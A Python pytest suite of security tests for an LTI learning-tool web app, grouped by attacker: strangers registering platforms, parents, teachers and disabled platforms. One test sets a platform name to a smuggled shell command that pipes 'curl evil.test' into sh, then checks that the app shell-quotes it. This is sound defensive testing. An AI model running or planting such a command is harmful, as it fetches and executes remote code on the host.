"""What must not happen: attacks on connecting, choosing and being known, grouped by who attacks."""

from __future__ import annotations

import io
import shlex
import sqlite3
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
import requests
from flask import Flask
from sqlalchemy import select

from lti_app.extensions import db
from lti_app.registrations.models import Deployment, Registration
from tests.browsing import BASE, Visitor
from tests.conftest import run, running, settings_for
from tests.fake_platform import LTI, MEMBERSHIP, FakePlatform, User
from tests.functional.courses_steps import came
from tests.functional.deep_linking_steps import opened
from tests.functional.families_steps import children
from tests.functional.test_registration import (
    CONFIGURATION,
    begin,
    confirm,
    connect,
    count,
    form_of,
    invite,
    newcomer,
    registration,
    text,
)

__all__ = ["newcomer"]


@pytest.fixture
def open_app(database_url: str, tmp_path: Path, platform: FakePlatform) -> Iterator[Flask]:
    """Where platforms may register themselves without an invitation."""
    for app in running(database_url, tmp_path, platform):
        app.config["SETTINGS"] = settings_for(tmp_path, database_url, open_registration="渝中区")
        yield app


class SlowBody(io.RawIOBase):
    """A body whose sender takes time, in which somebody else writes to the database."""

    def __init__(self, body: bytes, database: Path) -> None:
        self.rest, self.database, self.waited = body, database, False

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        other = sqlite3.connect(self.database, timeout=0, isolation_level=None)
        other.execute("BEGIN IMMEDIATE")  # raises when somebody holds the lock
        other.execute("ROLLBACK")
        other.close()
        self.waited = True
        part, self.rest = self.rest[: len(buffer)], self.rest[len(buffer) :]
        buffer[: len(part)] = part
        return len(part)


# -- a stranger on the internet -------------------------------------------------------------------------


def test_nothing_of_a_squatter_stays_when_the_invited_platform_comes(
    open_app: Flask, newcomer: FakePlatform
) -> None:
    newcomer.configuration = {
        CONFIGURATION: {"product_family_code": "moodle", "https://moodle/": 1},
        "jwks_uri": "https://squatter.test/jwks",
    }
    newcomer.registration_answer["deployment_id"] = "squatted"
    connect(open_app, newcomer, embedder="https://squatter.test")
    newcomer.configuration, newcomer.registration_answer = {}, {}
    connect(open_app, newcomer, invite(open_app))
    row = registration(open_app)
    assert row is not None
    assert row.frame_origins == ["https://admin.new.test", "https://new.test"]
    with open_app.app_context():
        ids = db.session.scalars(select(Deployment.deployment_id).where(Deployment.registration_id == row.id))
        assert not ids.all()


def test_a_check_of_a_waiting_platform_does_not_keep_it_from_being_rejected(
    open_app: Flask, newcomer: FakePlatform
) -> None:
    before = count(open_app, Registration)
    connect(open_app, newcomer)
    open_app.test_cli_runner().invoke(args=["platforms", "check", "new.test"])
    run(open_app, "platforms", "reject", "new.test")
    assert count(open_app, Registration) == before


def test_two_strangers_of_one_name_make_no_error_of_ours(open_app: Flask, newcomer: FakePlatform) -> None:
    both = threading.Barrier(2)
    answers = iter(["one", "two"])

    def registered(request: requests.PreparedRequest) -> tuple[int, Any]:
        name = next(answers)
        both.wait(10)
        return 201, {"client_id": name}

    form = form_of(begin(open_app, newcomer))
    read = newcomer.send

    def send(request: requests.PreparedRequest, **more: Any) -> requests.Response:
        if (request.url or "").endswith("/register"):
            newcomer.faults.append(registered)
        return read(request, **more)

    newcomer.send = send  # type: ignore[method-assign]
    with ThreadPoolExecutor(2) as pool:
        pages = [one.result() for one in [pool.submit(confirm, open_app, form) for _ in range(2)]]
    assert [page.status_code for page in pages] == [200, 200]
    with open_app.app_context():
        names = db.session.scalars(select(Registration.name).where(Registration.issuer == "https://new.test"))
        assert sorted(names) == ["new.test", "new.test-2"]


def test_the_name_that_a_platform_gives_itself_is_no_command(lite_app: Flask, newcomer: FakePlatform) -> None:
    evil = "学校; curl evil.test | sh"
    newcomer.kind = "canvas"
    newcomer.configuration = {
        CONFIGURATION: {
            "product_family_code": "canvas",
            "https://canvas.instructure.com/lti/account_name": evil,
            "messages_supported": [{"type": "LtiResourceLinkRequest"}],
        }
    }
    page = connect(lite_app, newcomer, invite(lite_app, "--deployments", "pending"))
    assert page.status_code == 200
    visit = Visitor(lite_app, newcomer)
    newcomer.deployment_id = "8"
    visit.launch("teacher")
    said = lite_app.test_cli_runner().invoke(args=["platforms", "check", evil]).output
    commands = [line for line in said.splitlines() if "flask platforms deployments" in line]
    assert commands
    for line in commands:
        assert shlex.quote(evil) in line


def test_our_key_set_is_read_while_somebody_writes(lite_app: Flask, tmp_path: Path) -> None:
    other = sqlite3.connect(tmp_path / "gongyu.sqlite3", timeout=0, isolation_level=None)
    other.execute("BEGIN IMMEDIATE")
    try:
        began = time.monotonic()
        answer = lite_app.test_client().get("/lti/jwks.json", base_url=BASE)
        assert (answer.status_code, time.monotonic() - began < 5) == (200, True)
    finally:
        other.close()


# -- a parent --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/children/claim", "/account/link", "/language", "/who"])
def test_a_slow_sender_keeps_nobody_from_writing(
    lite_app: Flask, platform: FakePlatform, tmp_path: Path, path: str
) -> None:
    page = came(Visitor(lite_app, platform), "parent")
    body = SlowBody(b"code=AAAA&locale=zh", tmp_path / "gongyu.sqlite3")
    answer = page.post(
        path,
        content_type="application/x-www-form-urlencoded",
        environ_overrides={"wsgi.input": body, "CONTENT_LENGTH": str(len(body.rest))},
        follow_redirects=False,
    )
    assert body.waited
    assert answer.status < 500


def test_a_parent_whom_the_platform_unnames_gets_no_child_later(
    app: Flask, visit: Visitor, platform: FakePlatform
) -> None:
    with app.app_context():  # one of those whose ids may be other ids, so that an unknown one waits
        db.session.scalars(select(Registration)).one().kind = "canvas"
        db.session.commit()
    mentor = [MEMBERSHIP + "Mentor"]
    platform.users["observer"] = User("u-observer", "赵奶奶", mentor, ["u-late"])
    visit("observer")
    platform.users["observer"] = User("u-observer", "赵奶奶", mentor)
    visit("observer")
    platform.users["late"] = User("u-late", "后来的孩子", [MEMBERSHIP + "Learner"])
    visit("late")
    assert children(app) == set()


# -- a teacher -------------------------------------------------------------------------------------------


def test_a_typed_history_does_not_tell_of_other_classes(app: Flask, visit: Visitor) -> None:
    private = {LTI + "context": {"id": "class-9", "title": "校长家访名单班"}}
    visit("teacher", "demo/class-9", **private).post("/choose", {"course": "demo", "counts": "result"})
    visit.platform.users["other"] = User("u-other", "另一位老师", [MEMBERSHIP + "Instructor"])
    typed = {LTI + "custom": {"link_history": "link-demo-class-9"}}
    board = visit("other", "copy/class-2", **typed)
    assert "带过来" in board.text
    assert "校长家访名单班" not in board.text
    assert "微课 demo" not in board.text


def test_a_tab_gives_no_second_answer_to_one_request_for_content(app: Flask, visit: Visitor) -> None:
    page = opened(visit)
    assert page.post("/open", {"page": f"{page.root}/pick"}, follow_redirects=False).status == 404


# -- a platform that was switched off --------------------------------------------------------------------


def test_a_disabled_platform_is_not_told_that_it_is_connected(app: Flask, newcomer: FakePlatform) -> None:
    connect(app, newcomer, invite(app))
    run(app, "platforms", "disable", "new.test")
    page = connect(app, newcomer, invite(app))
    assert page.status_code == 409
    assert "GY-REGISTER-SWITCHED-OFF" in text(page)
